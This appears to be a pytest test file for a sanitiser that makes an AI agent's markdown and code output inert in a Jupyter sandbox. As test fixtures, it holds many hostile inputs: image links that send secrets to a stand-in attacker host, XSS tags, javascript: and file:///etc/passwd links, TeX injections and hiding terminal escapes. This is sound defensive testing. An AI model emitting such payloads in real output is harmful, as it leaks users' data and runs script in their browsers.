"""What an agent says is untrusted: texts that would load, run or hide something, and what becomes of them."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from jupyter_agentbox.kernel.inert_text import inert_code, inert_markdown

#: What a text tries -> the text.
HOSTILE = {
    "image": "![weather](https://evil.example/?d=secret)",
    "image by reference": "![weather][x]\n\n[x]: https://evil.example/p.png",
    "image in a link": "[![a](https://evil.example/a)](https://evil.example)",
    "image whose bang is doubled": "!![a](https://evil.example/a)",
    "tag": '<img src="https://evil.example/a">',
    "tag over two lines": '<img\nsrc="https://evil.example/a">',
    "closing tag": "</div><script>alert(1)</script>",
    "comment": "<!-- --><script>alert(1)</script>",
    "declaration": "<!DOCTYPE html><iframe src=//evil.example>",
    "processing instruction": "<?xml ?><svg onload=alert(1)>",
    "tag within a table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "tag after a fence that does not close": "```\ncode\n<img src=x>",
    "tag split by a control": "<\x00img src=x>",
    "tag split by an escape": "<\x1b[0mimg src=x>",
    "image split by a control": "!\x07[a](https://evil.example/a)",
    "button that imitates a card": "<button>Allow</button><style>*{display:none}</style>",
    "TeX that adds a link": r"$\href{javascript:alert(1)}{x}$",
    "TeX that adds a style": r"$\style{background:url(https://evil.example/a)}{x}$",
    "TeX that names a command otherwise": r"$\csname style\endcsname{background:url(//evil.example)}{x}$",
    "TeX that links a token": r"$\mmlToken{mtext}[href='https://evil.example/a']{x}$",
    "TeX whose box has a style": r"$\bbox[background:url(https://evil.example/a)]{x}$",
    "TeX of other programs": r"$\htmlStyle{background:url(https://evil.example/a)}{x}$",
    "TeX that loads more TeX": r"$\require{html}$",
    "escape that sets a terminal's title": "\x1b]0;owned\x07text",
    "escape that hides text": "\x1b[8mhidden\x1b[0m",
}
_COMMANDS = re.compile(
    r"\\(?:href|style|csname|require|class|cssId|data|unicode|includegraphics|mmlToken|bbox|htmlStyle)\b"
)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_loads_nothing_and_has_no_markup_of_its_own(text: str) -> None:
    inert = inert_markdown(text)
    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(inert)

    assert "<img" not in page
    assert not re.search(r"<(?!/?(?:p|a|code|pre|table|thead|tbody|tr|th|td|em|strong)\b)[A-Za-z/!?]", page)
    assert not _COMMANDS.search(inert)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", inert)


@pytest.mark.parametrize("text", [HOSTILE["image"], HOSTILE["tag"]])
def test_the_same_text_would_load_an_image_without_this(text: str) -> None:
    assert "<img" in MarkdownIt("commonmark", {"html": True}).render(text)


#: Links that some renderers let through: that of nbconvert checks no address.
LINKS = [
    "[x](javascript:alert(1))",
    "[x]( JaVaScript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert( 1 )>)",
    "[x](<java&Tab;script:alert(1)>)",
    "[x](data:text/html,a)",
    "[x](vbscript:a)",
    "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]:\n  <javascript:alert(1)> 'title'",
]


@pytest.mark.parametrize("text", LINKS)
def test_a_link_leads_to_a_web_page_or_a_mail_address(text: str) -> None:
    markdown = MarkdownIt("commonmark", {"html": True})
    setattr(markdown, "validateLink", lambda _: True)  # noqa: B010  # a renderer that checks no address

    assert "href" in markdown.render(text)
    assert "href" not in markdown.render(inert_markdown(text))


@pytest.mark.parametrize("fence", ["```", "~~~~", "``` ", "> ```"])
def test_a_diagram_which_can_name_images_is_text(fence: str) -> None:
    tokens = MarkdownIt("commonmark").parse(inert_markdown(f'{fence}mermaid\na@{{img: "https://evil.example/a"}}\n'))

    assert [token.info.strip() for token in tokens if token.type == "fence"] == ["\u2060mermaid"]


@pytest.mark.parametrize(
    "text",
    [
        "**Bold**, *italic*, `code`, [a link](https://example.org)",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "[a](http://a.example/?b=c&d), [b](mailto:a@b.example), [c](figures/c.png), [d][e]\n\n[e]: https://e.example",
        "a[0](b) and c[d]: int",
        "1. one\n2. two < three, 4 > 3",
        "$x^2 < y$ and $\\frac{a}{b}$",
        "Well done! [1]",
        "Grüße, 日本, 👩‍👩‍👧",
    ],
)
def test_plain_markdown_stays_as_it_is(text: str) -> None:
    assert inert_markdown(text) == text


@pytest.mark.parametrize(
    "code", ["print(1)", 'x = """\n```\n<script>\n```\n"""', "`````\n# a longer fence", "   ```` inner"]
)
def test_nothing_in_code_ends_its_block(code: str) -> None:
    (token,) = MarkdownIt("commonmark").parse(inert_code(code))

    assert (token.type, token.content.rstrip("\n")) == ("fence", code)
